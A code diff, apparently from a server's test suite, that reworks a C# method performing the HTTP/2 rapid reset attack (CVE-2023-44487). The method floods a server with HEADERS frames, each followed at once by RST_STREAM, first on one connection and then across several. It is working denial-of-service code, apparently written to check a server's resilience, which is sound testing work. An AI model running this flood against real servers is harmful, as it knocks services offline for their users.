@@ -108,37 +108,46 @@ internal static class AbortedRequests
     }
 
     /// <summary>
-    /// HTTP/2's rapid reset (CVE-2023-44487): requests and their RST_STREAM in one write, without waiting for anything.
-    /// Where the server ends such a connection the flood goes on over the next.
+    /// HTTP/2's rapid reset (CVE-2023-44487): requests and their RST_STREAM one behind the other, without waiting for
+    /// anything. First all on one connection, which the server may end, then as many over several that it bears.
     /// </summary>
     public static async Task ResetRapidlyAsync(int count, int http2)
     {
-        const int InOneWrite = 50;
-        for (var begun = 0; begun < count;)
+        const int Borne = 100;
+        await ResetOnOneAsync(count, http2);
+        for (var begun = 0; begun < count; begun += Borne)
         {
-            using var connection = await RawConnection.OpenAsync(http2);
-            try
-            {
-                await connection.SendAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
-                await connection.SendAsync(Frame(type: 4, flags: 0, stream: 0, []));
-                for (var stream = 1; begun < count; begun += InOneWrite)
-                {
-                    var flood = new List<byte>();
-                    for (var i = 0; i < InOneWrite; i++, stream += 2)
-                    {
-                        flood.AddRange(Frame(type: 1, flags: 5, stream, Get(["/live/events", "/download?size=100000000", "/plain"], i)));
-                        flood.AddRange(Frame(type: 3, flags: 0, stream, [0, 0, 0, 8]));
-                    }
+            await ResetOnOneAsync(Borne, http2);
+        }
+    }
 
-                    await connection.SendAsync(flood.ToArray());
-                }
-            }
-            catch (System.Net.Sockets.SocketException)
+    private static async Task ResetOnOneAsync(int count, int http2)
+    {
+        using var connection = await RawConnection.OpenAsync(http2);
+        try
+        {
+            await connection.SendAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
+            await connection.SendAsync(Frame(type: 4, flags: 0, stream: 0, []));
+            for (var i = 0; i < count; i++)
             {
-                // Had enough of it.
+                var stream = (2 * i) + 1;
+                await connection.SendAsync((byte[])
+                [
+                    .. Frame(type: 1, flags: 5, stream, Get(["/live/events", "/download?size=100000000", "/plain"], i)),
+                    .. Frame(type: 3, flags: 0, stream, [0, 0, 0, 8]),
+                ]);
             }
 
-            connection.Reset();
+            // The server is to read all of it: a reset of the connection would take back what it has not read yet.
+            connection.ShutdownSend();
+        }
+        catch (System.Net.Sockets.SocketException)
+        {
+            // It has had enough.
+        }
+
+        while (await connection.ReceiveAsync() is not "")
+        {
         }
     }
 
